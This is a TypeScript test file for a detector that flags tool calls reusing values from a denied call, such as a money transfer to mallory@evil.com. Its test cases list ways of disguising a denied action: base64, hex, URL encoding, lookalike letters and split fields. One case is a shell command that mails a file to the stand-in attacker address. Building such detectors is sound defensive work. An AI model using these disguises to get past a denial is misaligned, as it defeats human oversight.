import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type DeniedCall, findDeniedValues } from '../../src/domain/denied.ts';

const makeDenied = (args: unknown, tool = 'send_money'): DeniedCall => ({ callId: 's1.c1', tool, args });

const denied = [
  makeDenied({
    to: 'Mallory@evil.com',
    iban: 'DE89 3704 0044 0532 0130 00',
    amount: 1_250,
    path: 'config/prod/payments.yaml',
    note: 'Please transfer the whole balance of the reserve account to the new supplier today',
    mode: 'overwrite',
    urgent: true,
    n: 3,
  }),
];

describe('after a denial the same values ask again', () => {
  it.each([
    { name: 'through another tool', args: { recipient: 'mallory@evil.com' }, paths: ['/recipient'] },
    { name: 'inside a longer text', args: { cmd: 'mail -s hi mallory@evil.com < x' }, paths: ['/cmd'] },
    { name: 'in other notations', args: { account: 'de89370400440532013000' }, paths: ['/account'] },
    { name: 'as a number in a text', args: { text: 'exactly 1,250.00 now' }, paths: ['/text'] },
    { name: 'with another sign', args: { delta: -1250 }, paths: ['/delta'] },
    { name: 'taken apart', args: { folder: 'config/prod/', file: 'payments.yaml' }, paths: [''] },
    { name: 'in base64', args: { data: Buffer.from('to: mallory@evil.com').toString('base64') }, paths: ['/data'] },
    {
      name: 'in hexadecimal',
      args: { data: Buffer.from('config/prod/payments.yaml').toString('hex') },
      paths: ['/data'],
    },
    { name: 'in a URL', args: { url: 'https://x.com/?to=mallory%40evil.com' }, paths: ['/url'] },
    { name: 'in other forms of the letters', args: { to: 'ｍallory@evil.com' }, paths: ['/to'] },
    { name: 'as a key', args: { shares: { 'mallory@evil.com': 1 } }, paths: ['/shares/mallory@evil.com'] },
    { name: 'deep inside', args: { a: [{ b: ['mallory@evil.com'] }] }, paths: ['/a/0/b/0'] },
    {
      name: 'as most of a text',
      args: { memo: 'transfer the whole balance of the reserve account to the new supplier' },
      paths: ['/memo'],
    },
  ])('$name', ({ args, paths }) => {
    expect(findDeniedValues('other', args, denied)).toEqual({ callId: 's1.c1', tool: 'send_money', paths });
  });

  it('also an address that stood inside of a denied text', () => {
    const calls = [makeDenied({ body: 'Hi, send it all to mallory@evil.com. Thanks' })];

    expect(findDeniedValues('share', { with: 'mallory@evil.com' }, calls)?.paths).toEqual(['/with']);
  });

  it('also the same tool with the same arguments, whatever they are', () => {
    const calls = [makeDenied({ on: true }, 'restart'), makeDenied({}, 'wipe')];

    expect(findDeniedValues('restart', { on: true }, calls)?.tool).toBe('restart');
    expect(findDeniedValues('wipe', {}, calls)?.tool).toBe('wipe');
    expect(findDeniedValues('restart', { on: false }, calls)).toBeUndefined();
  });

  it.each([
    { name: 'common words', args: { mode: 'overwrite', other: 'today' } },
    { name: 'choices and small numbers', args: { urgent: true, n: 3, m: null } },
    { name: 'other values', args: { to: 'ana@acme.com', amount: 99, path: 'config/staging/payments.yaml' } },
    { name: 'a number that holds a denied one', args: { id: 912_503 } },
    { name: 'a path that begins like a denied one', args: { path: 'config/prod' } },
    { name: 'words that both texts use', args: { text: 'the account of the supplier' } },
  ])('but not $name', ({ args }) => {
    expect(findDeniedValues('other', args, denied)).toBeUndefined();
  });

  it('never when nothing was denied', () => {
    expect(findDeniedValues('x', { a: 'mallory@evil.com' }, [])).toBeUndefined();
  });

  it('whatever stands around an identifier, and wherever it stands', () => {
    const id = fc.stringMatching(/^[a-z]{3,8}-[0-9]{4,8}$/);
    const path = fc.array(fc.constantFrom('a', 'b', 'c'), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(id, path, fc.string(), fc.string(), (value, keys, before, after) => {
        const args = keys.reduceRight<unknown>((inner, key) => ({ [key]: inner }), `${before} ${value} ${after}`);
        expect(findDeniedValues('x', args, [makeDenied({ deep: [{ id: value }] })])?.callId).toBe('s1.c1');
      }),
    );
  });

  it('takes arguments of any shape', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.jsonValue(), (one, other) => {
        findDeniedValues('x', one, [makeDenied(other)]);
        expect(findDeniedValues('send_money', one, [makeDenied(one)])).toBeDefined();
      }),
    );
  });
});
